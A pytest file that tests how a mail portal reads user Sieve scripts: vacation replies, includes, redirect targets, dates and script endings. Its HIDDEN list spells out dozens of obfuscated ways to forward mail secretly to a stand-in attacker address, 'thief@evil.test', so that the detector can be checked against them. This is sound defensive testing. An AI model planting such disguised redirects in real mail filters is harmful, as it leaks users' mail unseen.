"""What the portal sees in scripts that others wrote."""

from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailservers.drivers.base import OwnScript
from mailservers.drivers.own_effects import ends_all, notes_on
from mailservers.drivers.sieve_reading import SOMEWHERE, answer_together, has_vacation, included, redirects
from mailservers.drivers.sieve_tokens import LONGEST, MOST_TOKENS, tokens
from tests.vacation.sieve_engines import Pigeonhole, pigeonhole


@pytest.mark.parametrize(
    "script",
    [
        'require "vacation"; vacation "Away.";',
        'require ["vacation"];\r\nif true {\r\n  VACATION :days 7 text:\r\nAway.\r\n.\r\n;\r\n}\r\n',
        'if header "subject" "vacation" { keep; } else { vacation "x"; }',
        '/* no */vacation/* yes */"x";',
        'if false { keep; } vacation "x";',
        'if false { if true { vacation "no"; } } elsif true { vacation "x"; }',
        'if anyof (false, true) { vacation "x"; }',
        'set "a" "text:\n"; vacation "x";',
        '# text:\nvacation "x";\n.\n',
        'fileinto "\\\\"; vacation "x";',
        'if false # rule:[off]\n{ fileinto "}"; }\nvacation "x";',
        "redirect text:# why\na\n.\n; vacation text: \nx\n.\n;",
    ],
)
def test_a_vacation_action_is_found(script: str) -> None:
    assert has_vacation(script)


@pytest.mark.parametrize(
    "script",
    [
        "",
        'require "vacation";',
        "# vacation\nkeep;",
        'keep; /* vacation "x";\n * vacation */',
        "keep; /* never closed vacation",
        'fileinto "vacation";',
        'fileinto "a \\" vacation \\\\";',
        'fileinto "never closed vacation;',
        'redirect text:\nvacation "x";\n..\nvacation\n.\n;',
        'redirect text: # why\r\nvacation "x";\r\n.\r\n;',
        "redirect text:\nnever closed vacation",
        'myvacation "x"; vacationer "y"; :vacation "z";',
        # As Roundcube writes a rule that is switched off.
        '# rule:[Away]\nif false # true\n{\n\tvacation :days 7 "Away {";\n}\n',
        'if false { if true { keep; } vacation "x"; }',
        "if false { vacation",
    ],
)
def test_what_only_looks_like_a_vacation_action(script: str) -> None:
    assert not has_vacation(script)


def test_own_scripts_that_are_included() -> None:
    script = """
        require "include";
        include "a"; include :personal "b \\"c\\""; include :once :optional :PERSONAL "d";
        include :global "e"; # include "f";
        if false { include "g"; }
        include text:
h
.
; include; include :personal
    """
    assert included(script) == ["a", 'b "c"', "d", "h\n"]


@given(st.text())
def test_any_text_can_be_looked_at(text: str) -> None:
    has_vacation(text)
    included(text)
    redirects(text)


@pytest.mark.parametrize(
    ("script", "targets"),
    [
        ('redirect "boss@elsewhere.test";', ["boss@elsewhere.test"]),
        ('require "copy";\r\nredirect :copy "Boss@ELSEWHERE.test";\r\n', ["boss@elsewhere.test"]),
        ('REDIRECT/* now */"a@b.test" ;redirect "c@d.test";', ["a@b.test", "c@d.test"]),
        ('redirect :notify "never" :ret "FULL" :copy "a@b.test";', ["a@b.test"]),
        ('redirect text:\na@b.test\n.\n;', ["a@b.test"]),
        ('redirect "The Boss <a@b.test>";', ["a@b.test"]),
        ('redirect "\\a@b\\.test";', ["a@b.test"]),
        ('require ["encoded-character"];\nredirect "a${hex:40}b${unicode: 2E}test";', ["a@b.test"]),
        ('redirect "a${hex:40}b.test";', ["a${hex:40}b.test"]),
        ('require "encoded-character"; redirect "${unicode: ffffffff}@b";', ["${unicode: ffffffff}@b"]),
        ('require "encoded-character"; redirect "${hex: fff}@b.test";', ["${hex: fff}@b.test"]),
        ('set "x" "a@b.test"; redirect "${x}";', ["${x}"]),
        ('if header "subject" "x" { redirect "a@b.test"; stop; }', ["a@b.test"]),
        ('if false { keep; } else { redirect "a@b.test"; }', ["a@b.test"]),
        ('redirect "a@b.test"', ["a@b.test"]),
        ("", []),
        ('# redirect "a@b.test";\n/* redirect "a@b.test"; */', []),
        ('vacation "redirect \\"a@b.test\\";";', []),
        ('vacation text:\nredirect "a@b.test";\n.\n;', []),
        ('# rule:[off]\nif false # true\n{\n\tredirect "a@b.test";\n}', []),
        ('header "redirect" "a@b.test"; redirect; redirected "a@b.test";', []),
    ],
)  # fmt: skip
def test_where_mail_is_sent_on_to(script: str, targets: list[str]) -> None:
    assert redirects(script) == targets


def test_a_doubled_dot_in_a_long_text_is_one() -> None:
    assert redirects("redirect text:\n..a@b.test\n.\n;") == [".a@b.test"]


# --- hiding places


@pytest.fixture(scope="module")
def server() -> Iterator[Pigeonhole]:
    with pigeonhole() as tools:
        yield tools


HIDDEN = [
    'if not header :is "if" "false" { redirect "thief@evil.test"; }',
    'if not header :is ["if", "false"] ["{", "x"] { redirect "thief@evil.test"; }',
    'if header :is "a" ["if", "false", "{"] { keep; } redirect "thief@evil.test";',
    'if false { keep; } elsif true { redirect "thief@evil.test"; }',
    'if false { keep; } else { redirect "thief@evil.test"; }',
    'if not false { redirect "thief@evil.test"; }',
    'if anyof (true) { redirect "thief@evil.test"; }',
    'if allof (true, not allof (false)) { if true { redirect "thief@evil.test"; } }',
    'if size :over 1K { } redirect "thief@evil.test";',
    'REDIRECT\r"thief@evil.test"\r;',
    'redirect/* { */ # if false {\n"thief@evil.test";',
    "keep; # text:\nredirect text: # if\nthief@evil.test\n.\n;",
    '/* if false { /* */ redirect "thief@evil.test"; /* } */',
    '# comment\rif false {\nredirect "thief@evil.test"; # }',
    'if header :is "a" "\\"{if false{" { } redirect "thief@evil.test";',
    'if header :is "a" "x\nif false {\n" { } redirect "thief@evil.test";',
    'redirect "Me <thief@evil.test>";',
    'redirect "thief @evil.test";',
    'redirect "thief@evil.test (me@ours.test)";',
    'require "vacation"; vacation :days 5text:\nif false {\n.\n; redirect "thief@evil.test";',
    'require "vacation"; vacation :mime text:\n..\nif false {\n.\r\n; redirect "thief@evil.test";',
    'require "copy"; redirect :copy "thief@evil.test";',
    'require "encoded-character"; redirect "thief${hex:40}evil.test";',
    'require "encoded-character"; redirect "thief@${HEX: 65}${hex:76 69}${Unicode:6c}.test";',
    'require ["enotify"]; notify "mailto:thief@evil.test";',
    'require ["enotify"]; notify :message "x" "MAILTO:?to=thief%40evil.test";',
    'require ["enotify"]; notify "mailto:me@ours.test?subject=x&b%63c=thief@evil.test";',
    'stop; redirect "thief@evil.test";',
    'require "foreverypart"; require "mime"; foreverypart { redirect "thief@evil.test"; }',
    'require ["date", "relational"];'
    ' if currentdate :value "le" "date" "2046-06-01" { redirect "thief@evil.test"; }',
]


@pytest.mark.parametrize("script", HIDDEN)
def test_a_redirect_does_not_hide(script: str) -> None:
    assert "thief@evil.test" in redirects(script)


def test_all_of_these_are_sieve(server: Pigeonhole) -> None:
    server.compile(HIDDEN)


UNTOLD = [
    'require "variables"; set "x" "thief"; redirect "${x}@evil.test";',
    'require "variables"; set :lower "x" "THIEF@EVIL.TEST"; redirect "${x}";',
    'require ["variables", "encoded-character"]; set "x" "a@b.test"; redirect "${hex:24}{x}";',
    'require "variables"; set "x" "a@b.test"; redirect "a${x}@ours.test";',
    'require ["variables", "enotify"]; set "x" "mailto:a@b.test"; notify "${x}";',
    'require ["include", "variables"]; global "to"; set "to" "a@b.test"; include :global :optional "on";',
]


def test_what_is_made_when_the_mail_comes_is_somewhere(server: Pigeonhole) -> None:
    for script in UNTOLD:
        assert any(target.startswith(SOMEWHERE) for target in redirects(script)), script
    server.compile(UNTOLD[:5])


@pytest.mark.parametrize(
    "script",
    [
        'require "vnd.dovecot.pipe"; pipe "out";',
        'require "vnd.dovecot.execute"; if allof (execute "out", false) { keep; }',
        'require "vnd.dovecot.filter"; filter "out";',
        'redirect :list "tag:x";',
        'require ["include", "encoded-character"]; include :personal "own${hex:32}";',
        'require ["include", "variables"]; set "x" "own"; include :personal "${x}";',
        'require "notify"; notify :message "x";',
        'require ["notify", "variables"]; notify :options ["me@ours.test", "${x}"];',
        'redirect "a@b.test";' * MOST_TOKENS,
        "#" * LONGEST + '\nredirect "a@b.test";',
    ],
)
def test_what_can_not_be_told_is_somewhere(script: str) -> None:
    assert any(target.startswith(SOMEWHERE) for target in redirects(script))


def test_somewhere_is_another_one_once_the_script_is() -> None:
    script = 'require "variables"; set "x" "a@b.test"; redirect "${x}";'
    assert redirects(script) == redirects("# why\n" + script.replace("; ", ";\r\n"))
    assert redirects(script) != redirects(script.replace("a@b", "thief@b"))


def test_an_address_of_many_in_a_notice_by_the_old_draft() -> None:
    script = 'require "notify"; notify :method "mailto" :options ["A@b.test"] :message "mailto:me@ours.test";'
    assert redirects(script) == ["a@b.test", "me@ours.test"]


def test_a_report_about_abuse_goes_to_its_last_argument() -> None:
    assert redirects('report "abuse" "look@this.test" "a@b.test";') == ["a@b.test"]


def test_nothing_that_a_database_can_not_hold_comes_out() -> None:
    script = (
        'require ["variables", "encoded-character"]; set "x" "y";'
        ' redirect "${x}@b${hex:00}z.test"; redirect "${unicode:d800}@b.test"; redirect "${hex:c3}@b.test";'
    )
    told = "".join(redirects(script))
    assert "\0" not in told
    told.encode()


# --- when


NOW = datetime(2026, 11, 30, 22, tzinfo=UTC)


@pytest.mark.parametrize(
    "test",
    [
        'currentdate :zone "+0200" :value "le" "date" "2024-06-14"',
        'currentdate :value "lt" :zone "+0200" "date" ["2024-06-14"]',
        'currentdate :value "le" "date" "2026-11-28"',
        'currentdate :zone "+0000" :value "le" "iso8601" "2026-11-30T21:59:59Z"',
        'currentdate :zone "+0100" :value "lt" "iso8601" "2026-11-30T22:59:59+01:00"',
        'currentdate :is "date" "2024-06-14"',
        'currentdate :is "year" "2025"',
        'allof (currentdate :zone "+0200" :value "ge" "date" "2024-06-01",'
        ' currentdate :zone "+0200" :value "le" "date" "2024-06-14")',
        'allof (header :is "a" ["b", "c"], currentdate :zone "+0200" :value "le" "date" "2024-06-14")',
        'anyof (currentdate :is "year" "2024", currentdate :is "year" "2025")',
        'not currentdate :zone "+0000" :value "gt" "date" "2024-06-14"',
        'allof (currentdate :is "weekday" "3", currentdate :is "year" "2025")',
        "not true",
        "allof (true, false)",
        'anyof (false, not anyof (true, header :is "a" "b"))',
    ],
)
def test_an_answer_whose_time_is_over_is_none(test: str, server: Pigeonhole) -> None:
    script = f'require ["vacation", "date", "relational"]; if {test} {{ vacation "x"; }}'
    assert not has_vacation(script, NOW)
    server.compile([script])


@pytest.mark.parametrize(
    "test",
    [
        'currentdate :zone "+0200" :value "le" "date" "2046-06-14"',
        'currentdate :zone "+0200" :value "ge" "date" "2046-06-14"',
        'currentdate :zone "+0000" :value "le" "iso8601" "2026-11-30T22:00:00Z"',
        'currentdate :value "le" "date" "2026-11-30"',
        'currentdate :is "weekday" "3"',
        'not currentdate :zone "+0000" :value "ge" "date" "2046-06-14"',
        'not currentdate :value "le" "date" "2024-06-14"',
        'anyof (currentdate :is "year" "2024", header :is "a" "b")',
        'currentdate :comparator "i;ascii-numeric" :value "le" "date" "2024-06-14"',
        'currentdate :matches "date" "2024*"',
        'currentdate :value "le" "date" "soon"',
        'currentdate :value "le" "hour" "00"',
        'date :value "le" "date" "date" "2024-06-14"',
        "not false",
        'not header :is "a" "b"',
        "allof (" * 40 + "false" + ")" * 40,
        "nonsense (",
    ],
)
def test_an_answer_that_may_still_come_is_one(test: str) -> None:
    assert has_vacation(f'if {test} {{ vacation "x"; }}', NOW)


def test_answers_at_other_times_are_no_rivals() -> None:
    early = 'if currentdate :zone "+0000" :value "lt" "date" "2027-01-01" { vacation "x"; }'
    late = 'if currentdate :zone "+0000" :value "ge" "date" "2027-01-01" { vacation "x"; }'
    assert not answer_together([early, late], NOW)
    assert answer_together([early, late, 'vacation "y";'], NOW)
    assert not answer_together([late, "keep;"], NOW)
    assert not answer_together([early, 'vacation "y";'], datetime(2027, 2, 1, tzinfo=UTC))


def test_an_answer_behind_the_scripts_end_is_none() -> None:
    assert not has_vacation('keep; return; vacation "x";')
    assert not has_vacation('stop; if true { vacation "x"; }')
    assert has_vacation('if header :is "a" "b" { stop; } vacation "x";')


# --- bounds


@pytest.mark.parametrize(
    "script",
    [
        "#rule:[" * 6000 + "\n" + "keep;\n" * 60,
        '"' + '\\"' * 200_000 + "\\",
        "text:" + " " * 200_000,
        "text:#" * 50_000,
        "/*" * 200_000,
        'require "encoded-character"; keep "' + "${hex:41 " * 50_000 + '";',
        "if " + "not " * 100_000,
        "if allof (" * 50_000,
        "{" * 200_000 + "}" * 200_000,
        'if header "a" [' + '"b",' * 100_000 + '"c"] { keep; }',
        'redirect "' + "<" * 100_000 + '";',
        'redirect "' + "(" * 500 + 'a@b";',
    ],
    ids=range(12),
)
def test_no_script_is_looked_at_for_long(script: str) -> None:
    found = tokens(script)
    assert len(found) <= MOST_TOKENS
    has_vacation(script)
    redirects(script)
    included(script)


@pytest.mark.parametrize(
    "script",
    [
        'if true { discard; } elsif true { keep; } else { reject "x"; }\n' * 2_000,
        'reject "x";\n' * 10_000,
        "if true {" * 5_000 + "}" * 5_000,
        'if header :is "a" "b" { stop; } ' * 4_000,
    ],
    ids=range(4),
)
def test_what_own_scripts_do_is_looked_at_once(script: str) -> None:
    """It took minutes where each command looked at all that come after it."""
    own = [OwnScript("own", script)]
    list(notes_on(own, 'redirect "a@b.test";', 4, own_first=True))
    ends_all(script)


@pytest.mark.parametrize(
    ("script", "ends"),
    [
        ("stop;", True),
        ("keep; stop;", True),
        ("if true { stop; }", True),
        ('if header :is "a" "b" { stop; }', False),
        ('if header :is "a" "b" { stop; } else { keep; stop; } keep;', True),
        ('if header :is "a" "b" { stop; } elsif true { keep; } else { stop; }', False),
        ('if header :is "a" "b" { keep; } if header :is "a" "c" { keep; } stop;', True),
        ('if header :is "a" "b" { keep; } else { keep; } if true { if true { stop; } }', True),
        ("return; stop;", False),
        ("if true { return; } stop;", True),
    ],
)
def test_whether_a_script_ends_for_all_mail(script: str, ends: bool) -> None:
    assert ends_all(script) == ends
